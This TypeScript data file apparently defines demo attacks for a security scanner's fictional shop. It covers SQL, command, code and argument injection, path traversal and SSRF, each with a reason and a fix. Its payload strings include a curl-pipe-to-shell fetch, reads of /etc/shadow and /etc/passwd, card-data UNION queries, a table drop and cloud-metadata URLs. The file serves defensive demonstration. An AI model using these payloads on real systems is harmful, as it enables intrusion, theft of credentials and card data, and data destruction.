import type { FindingSink, Severity, SinkKind } from '@castellan/core';

/** A place in the made-up shop where an attack comes in and where it is stopped. */
export interface DemoAttack {
  readonly detection: string;
  readonly severity: Severity;
  readonly method: string;
  readonly route: string;
  readonly path: string;
  readonly inputPath: string;
  readonly payloads: readonly string[];
  readonly sink: FindingSink;
  /** The call's text; `{}` is where the input stands. */
  readonly call: string;
  readonly reason: string;
  readonly advice: string;
  readonly file: string;
  readonly line: number;
}

/** Those that come most often first. */
export const demoAttacks: readonly DemoAttack[] = [
  {
    detection: 'sql-injection',
    severity: 'critical',
    method: 'GET',
    route: '/products',
    path: '/products',
    inputPath: 'query.q',
    payloads: ["' or 1=1 --", "' union select card, cvv from cards --", "'; drop table orders --"],
    sink: sink('pg', 'Client.query', 'sql'),
    call: "select * from products where name = '{}'",
    reason: 'The input ends a string and goes on as SQL.',
    advice: 'Send the value apart from the statement, as a parameter.',
    file: 'src/products/search.js',
    line: 41,
  },
  {
    detection: 'path-traversal',
    severity: 'high',
    method: 'GET',
    route: '/files/:name',
    path: '/files/invoice.pdf',
    inputPath: 'params.name',
    payloads: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '../../.env'],
    sink: sink('node:fs', 'readFile', 'path'),
    call: '/srv/shop/files/{}',
    reason: 'The input leads out of the directory that the app names.',
    advice: 'Resolve the path and refuse it when it is not below the directory.',
    file: 'src/files/download.js',
    line: 18,
  },
  {
    detection: 'ssrf',
    severity: 'high',
    method: 'POST',
    route: '/products/:id/picture',
    path: '/products/7/picture',
    inputPath: 'body.url',
    payloads: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/'],
    sink: sink('node:http', 'request', 'connect'),
    call: '{}',
    reason: 'The input names an inner address to connect to.',
    advice: 'Let users name one of the hosts that you list.',
    file: 'src/products/picture.js',
    line: 27,
  },
  {
    detection: 'sql-injection',
    severity: 'critical',
    method: 'POST',
    route: '/sign-in',
    path: '/sign-in',
    inputPath: 'body.email',
    payloads: ["admin'--", "' or ''='", "x' and sleep(9)='"],
    sink: sink('mysql2', 'Connection.query', 'sql'),
    call: "select id, hash from users where email = '{}'",
    reason: 'The input ends a string and goes on as SQL.',
    advice: 'Send the value apart from the statement, as a parameter.',
    file: 'src/people/sign-in.js',
    line: 66,
  },
  {
    detection: 'command-injection',
    severity: 'critical',
    method: 'POST',
    route: '/orders/:id/label',
    path: '/orders/1024/label',
    inputPath: 'body.size',
    payloads: ['10x15; id', '$(curl 203.0.113.9/x|sh)', '`cat /etc/shadow`'],
    sink: sink('node:child_process', 'exec', 'shell'),
    call: 'convert label.svg -resize {} label.png',
    reason: 'The input ends the command and begins another one.',
    advice: 'Start the program without a shell and give the value as one argument.',
    file: 'src/orders/label.js',
    line: 33,
  },
  {
    detection: 'code-injection',
    severity: 'critical',
    method: 'POST',
    route: '/discounts/preview',
    path: '/discounts/preview',
    inputPath: 'body.formula',
    payloads: ['process.exit()', 'constructor.constructor("return process")()'],
    sink: sink('node:vm', 'runInNewContext', 'code'),
    call: 'price * ({})',
    reason: 'The input calls what a formula has no use for.',
    advice: 'Read the formula with a parser of your own; run no text as code.',
    file: 'src/discounts/preview.js',
    line: 12,
  },
  {
    detection: 'argument-injection',
    severity: 'medium',
    method: 'GET',
    route: '/reports/:year',
    path: '/reports/2026',
    inputPath: 'params.year',
    payloads: ['--output=/srv/shop/public/x', '--checkpoint-action=exec=sh'],
    sink: sink('node:child_process', 'execFile', 'program'),
    call: 'tar -cf report.tar {}',
    reason: 'The input is read as an option of the program.',
    advice: 'Put -- before values that users give, or check their form.',
    file: 'src/reports/pack.js',
    line: 54,
  },
];

function sink(library: string, api: string, kind: SinkKind): FindingSink {
  return { library, api, kind };
}
